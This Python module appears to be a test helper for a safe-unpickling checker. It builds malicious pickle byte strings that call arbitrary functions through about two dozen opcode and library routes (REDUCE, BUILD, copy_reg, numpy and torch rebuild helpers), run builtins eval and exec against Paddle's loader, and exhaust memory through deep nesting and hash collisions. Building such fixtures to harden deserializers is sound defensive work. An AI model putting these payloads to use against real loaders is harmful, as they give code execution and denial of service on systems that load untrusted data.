"""Pickles that no honest program writes, put together one instruction at a time."""

import struct

PROTOCOL_2 = b"\x80\x02"
# Integers that differ by it have the same hash.
PRIME = (1 << 61) - 1


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def integer(value):
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8b" + struct.pack("<i", len(data)) + data


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def items(*pairs):
    """A mapping; keys and values are instructions."""
    return b"}(" + b"".join(key + value for key, value in pairs) + b"u"


def calls(module, attribute, argument):
    """Every way in which a pickle can have ``module.attribute(argument)`` called.

    Each gives the instructions that leave the result on the stack, so that it can stand where
    a value stands.
    """
    function = name(module, attribute)
    dotted = text(module) + text(attribute) + b"\x93"
    extension = b"\x82\x01"
    attributes = items((text("__call__"), function), (text("__class__"), function))
    return {
        "REDUCE": function + argument + b"\x85R",
        "STACK_GLOBAL": dotted + argument + b"\x85R",
        "INST": b"(" + argument + f"i{module}\n{attribute}\n".encode(),
        "OBJ": b"(" + function + argument + b"o",
        "NEWOBJ": function + argument + b"\x85\x81",
        "NEWOBJ_EX": function + argument + b"\x85}\x92",
        "keyword arguments": function + b")" + items((text("command"), argument)) + b"\x92",
        "EXT1": extension + argument + b"\x85R",
        "EXT2": b"\x83\x01\x00" + argument + b"\x85R",
        "EXT4": b"\x84\x01\x00\x00\x00" + argument + b"\x85R",
        "__setstate__": function + b")\x81" + items((text("__setstate__"), function)) + b"b"
        + argument + b"b",
        "BUILD of a function": function + attributes + b"b" + argument + b"\x85R",
        "BUILD with slots": function + b")\x81N" + attributes + b"\x86b",
        "append": function + b")\x81" + argument + b"a",
        "extend": function + b")\x81(" + argument + b"e",
        "__setitem__": function + b")\x81" + text("key") + argument + b"s",
        "a known name's own attributes": name("collections", "OrderedDict")
        + items((text("rebuild"), function)) + b"b" + argument + b"\x85R",
        "_reconstructor": name("copy_reg", "_reconstructor") + b"(" + function
        + name("builtins", "object") + argument + b"tR",
        "array made by it": name("numpy.core.multiarray", "_reconstruct") + b"(" + function
        + argument + b"tR",
        "getattr": name("builtins", "getattr") + name(module, "") + text(attribute)
        + b"\x86R" + argument + b"\x85R",
        "map": name("builtins", "list") + name("builtins", "map") + function
        + argument + b"\x85\x86R\x85R",
        "defaultdict": name("collections", "defaultdict") + function + b"\x85R"
        + text("key") + argument + b"s",
        "hash of a key": b"}" + function + argument + b"\x85RNs",
        "torch's tensor of a class": name("torch._tensor", "_rebuild_from_type_v2") + b"("
        + function + name("torch", "Tensor") + argument + b"\x85NtR",
        "torch's state": name("torch._utils", "_rebuild_parameter_with_state") + b"("
        + function + argument + b"\x85R" + function + argument + b"tR",
    }  # fmt: skip


def evaluations(expression):
    """Calls of Paddle's one known name with what Paddle does not write."""
    data = items((text("data"), text(expression)))
    function = name("builtins", "eval")
    return {
        "eval of text": function + text(expression) + b"\x85R",
        "eval with names": function + text(expression) + data + b"\x86R",
        "eval of data": function + text("data") + data + b"\x86R",
        "eval with three": function + text(expression) + data + data + b"\x87R",
        "exec": name("builtins", "exec") + text(expression) + b"\x85R",
        "Python 2's eval": name("__builtin__", "eval") + text(expression) + b"\x85R",
    }


def many(instruction, times):
    """A list of that many things."""
    return b"](" + instruction * times + b"e"


def kept(value, place=0):
    """Puts a value aside, for ``h`` and its place to bring it back."""
    return value + bytes((ord("q"), place)) + b"0"


# Of a function that was put aside first, with arguments that were put aside second.
CALL = b"h\x00h\x01R"


def mapping(keys):
    return b"}(" + b"N".join(keys) + b"Nu"


def doubled(times):
    """A tuple that holds a tuple twice that holds … : ``2 ** times`` leaves, few instructions."""
    return b")" + b"2\x86" * times


def nested(depth, begin=b"](", end=b"e"):
    return begin * depth + end * depth
